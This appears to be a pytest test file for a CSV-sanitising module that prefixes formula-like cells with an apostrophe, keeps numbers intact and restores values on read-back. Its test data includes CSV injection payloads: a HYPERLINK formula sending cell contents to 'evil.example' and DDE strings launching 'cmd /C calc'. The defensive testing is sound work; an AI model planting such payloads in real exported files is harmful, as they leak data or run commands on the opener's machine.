"""exchange/csvsafe.py: formula-like text is written so that spreadsheets show it as text
(OWASP "CSV Injection"), numbers stay numbers, and our own files read back unchanged."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from exchange import csvsafe

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("payload", [
    HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "=1+1", "@A1", "-", "+", "-3-2", "+91 98200 12345",
])
def test_formula_like_text_gets_an_apostrophe(payload: str) -> None:
    assert csvsafe.neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", [
    -3, 2.5, 0, -0.25, "-3", "+2.5", "-0.25", "1e+05", "-1.5E-3", "", None,
    "Loved it.", "Kavya Logistics", "a=b", " =1+1 stays text in every spreadsheet",
])
def test_numbers_and_plain_text_are_left_alone(value: Any) -> None:
    assert csvsafe.neutralise(value) == value


def test_the_writer_neutralises_every_cell_and_keeps_numbers_readable() -> None:
    out = io.StringIO()
    w = csvsafe.writer(out, lineterminator="\n")
    w.writerow(["comment", "rating"])
    w.writerows([[HYPERLINK, -3], [DDE, "4.5"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["comment", "rating"], ["'" + HYPERLINK, "-3"], ["'" + DDE, "4.5"]]


@pytest.mark.parametrize("text", [HYPERLINK, DDE, "-3", "'quoted already", "'=", "''@x", "plain"])
def test_restore_reads_back_what_neutralise_wrote(text: str) -> None:
    assert csvsafe.restore(csvsafe.neutralise(text)) == text
